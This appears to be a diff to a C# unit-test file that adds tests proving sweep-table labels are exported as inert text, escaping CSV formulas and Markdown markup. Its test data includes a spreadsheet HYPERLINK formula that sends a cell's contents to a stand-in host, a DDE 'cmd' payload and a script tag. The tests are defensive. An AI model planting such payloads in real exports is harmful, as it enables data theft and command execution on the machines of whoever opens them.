@@ -146,6 +146,29 @@ public sealed class SweepTableTests : IDisposable
             """.ReplaceLineEndings("\n"));
     }
 
+    [Theory]
+    [InlineData("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"ok\")", "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"ok\"\")\"")]
+    [InlineData("+1+cmd|' /C calc'!A0", "\"'+1+cmd|' /C calc'!A0\"")]
+    [InlineData("-2+3", "\"'-2+3\"")]
+    [InlineData("@SUM(A1)", "\"'@SUM(A1)\"")]
+    [InlineData("\t=1", "\"'\t=1\"")]
+    [InlineData(" =1", "\"' =1\"")]
+    [InlineData("\uFF1D1", "\"'\uFF1D1\"")]
+    [InlineData("-2.5", "-2.5")]
+    [InlineData("a=b", "a=b")]
+    public async Task ToCsv_LabelThatASpreadsheetWouldRun_IsText(string label, string field) =>
+        (await Labelled(label)).ToCsv().ShouldContain($"\n{field},,");
+
+    [Theory]
+    [InlineData("*K* | `x` [l](http://evil.example) ![i](http://a/i.png) _a_ $x$ \\", @"\*K\* \| \`x\` \[l\](http\://evil.example) \!\[i\](http\://a/i.png) \_a\_ \$x\$ \\")]
+    [InlineData("<script>alert(2)</script>\"''&amp;", "&lt;script\\>alert(2)&lt;/script\\>\"''&amp;amp;")]
+    [InlineData("www.evil.example snake_case ~~x~~", @"www\.evil.example snake_case \~\~x\~\~")]
+    [InlineData("\u202Egnp.1", @"\\u202Egnp.1")]
+    [InlineData("a\u001b[31mb\nc", @"a\\u001B\[31mb\\nc")]
+    public async Task ToMarkdown_LabelWithMarkup_IsText(string label, string cell) => (await Labelled(label)).ToMarkdown().ShouldContain($"\n| {cell} |");
+
+    private Task<SweepTable> Labelled(string label) => SweepTable.ReadAsync(_temporary.Store, SampleSweep.Plan(1, "first", label), SampleSweep.Metrics);
+
     [Fact]
     public async Task ToCsv_LabelsAndNumbers_SurviveAReader()
     {
@@ -262,7 +285,7 @@ public sealed class SweepTableTests : IDisposable
         var table = await ReadMeasured();
 
         table.Metrics.Select(metric => metric.Name).ShouldBe(["psnr", "ssim"]);
-        table.Notes.ShouldBe([$"Not measured for any result: LPIPS; do it with: pmsfc sweep measure {table.Plan.Id[..12]} --weights FOLDER"]);
+        table.Notes.ShouldBe(["Not measured for any result: LPIPS; 'sweep measure' adds them, with the folder of their weights in --weights or PMSFC_WEIGHTS."]);
         table.ToMarkdown().ShouldContain($"\n{table.Notes[0]}\n");
     }
 
@@ -279,7 +302,7 @@ public sealed class SweepTableTests : IDisposable
         [
             "LPIPS is measured with lpips/v0.1_squeeze.pth (SHA-256 aaaaaaaaaaaa…).",
             "No number for 1 result: lpips needs larger images.",
-            $"Not measured for 3 results: LPIPS; do it with: pmsfc sweep measure {table.Plan.Id[..12]} --weights FOLDER",
+            "Not measured for 3 results: LPIPS; 'sweep measure' adds them, with the folder of their weights in --weights or PMSFC_WEIGHTS.",
         ]);
         using var json = JsonDocument.Parse(table.ToJson());
         var job = json.RootElement.GetProperty("jobs")[0];
